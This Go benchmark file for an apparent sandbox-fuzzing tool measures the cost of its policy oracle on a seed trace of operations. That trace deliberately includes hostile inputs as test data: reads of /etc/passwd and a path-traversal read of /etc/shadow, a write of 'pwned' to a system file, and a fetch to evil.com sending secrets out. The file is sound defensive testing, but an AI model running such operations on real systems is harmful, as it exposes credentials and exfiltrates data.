package oracle

import (
	"testing"

	"github.com/sbxfuzz/sbxfuzz/attack"
	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/generators"
	"github.com/sbxfuzz/sbxfuzz/internal/must"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// seedTraceOps are the first seven ops of the SPEC §10 worked trace, the mix
// core's BenchmarkSeedTrace runs bare.
var seedTraceOps = []core.Op{
	{Kind: core.OpRead, Args: []string{"/work/data.txt"}},
	{Kind: core.OpRead, Args: []string{"/etc/passwd"}},
	{Kind: core.OpRead, Args: []string{"/work/../etc/shadow"}},
	{Kind: core.OpWrite, Args: []string{"/work/out/report.txt", "done"}},
	{Kind: core.OpWrite, Args: []string{"/system/boot.cfg", "pwned"}},
	{Kind: core.OpFetch, Args: []string{"api.internal", "/status"}},
	{Kind: core.OpFetch, Args: []string{"evil.com", "/steal?d=secrets"}},
}

func seedGrant(b core.Budgets) core.Grant {
	return must.Grant(core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: b,
	})
}

var seedWorld = scenario.WorldSpec{
	Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
	Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
	Clock:  scenario.TickClock{Start: 0, Step: 1},
}

// BenchmarkCheckedSeedTrace is BenchmarkSeedTrace with the oracle watching:
// every per-step check and the model after every op.
func BenchmarkCheckedSeedTrace(b *testing.B) {
	g := seedGrant(core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62})
	var cov Coverage
	r := watchWorld(core.ReferenceFactory, g, seedWorld, &cov)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k := i % len(seedTraceOps)
		r.Step(seedTraceOps[k], attack.Benign)
		if k == 0 && r.world.JournalLen() > 4096 {
			r.world.ResetJournal()
		}
	}
	b.StopTimer()
	if len(r.Findings()) > 0 {
		b.Fatal(r.Findings())
	}
}

// BenchmarkModelSeedTrace is the model alone on BenchmarkCheckedSeedTrace's
// ops: what predicting SPEC §5 costs an op, without the sandbox or the
// checks.
func BenchmarkModelSeedTrace(b *testing.B) {
	g := seedGrant(core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62})
	m := newModel(g.Spec(), newModelWorld(newModelBase(seedWorld)))
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if res, _ := m.predict(seedTraceOps[i%len(seedTraceOps)]); res.Kind == core.Invalid {
			b.Fatal("no verdict")
		}
	}
}

// BenchmarkCheckMemory is why a check works in memory an earlier one
// handed back: the state of the run and its worlds (pooled) against a new
// one for every check (fresh), on generated scenarios checked inline
// against the reference.
func BenchmarkCheckMemory(b *testing.B) {
	var cases []checkCase
	for i := range 512 {
		c, err := newCase(generators.Generate(generators.NewSource(1, uint64(i))))
		if err != nil {
			b.Fatal(err)
		}
		cases = append(cases, c)
	}
	for _, bc := range []struct {
		name  string
		check func(c checkCase, cov *Coverage)
	}{
		{"state=pooled", func(c checkCase, cov *Coverage) { checkNow(core.ReferenceFactory, c, cov, nil, nil) }},
		{"state=fresh", func(c checkCase, cov *Coverage) { checkIn(new(checkState), core.ReferenceFactory, c, cov, nil, nil) }},
	} {
		b.Run(bc.name, func(b *testing.B) {
			var cov Coverage
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				bc.check(cases[i%len(cases)], &cov)
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(cov.Ops), "ns/checkedop")
		})
	}
}
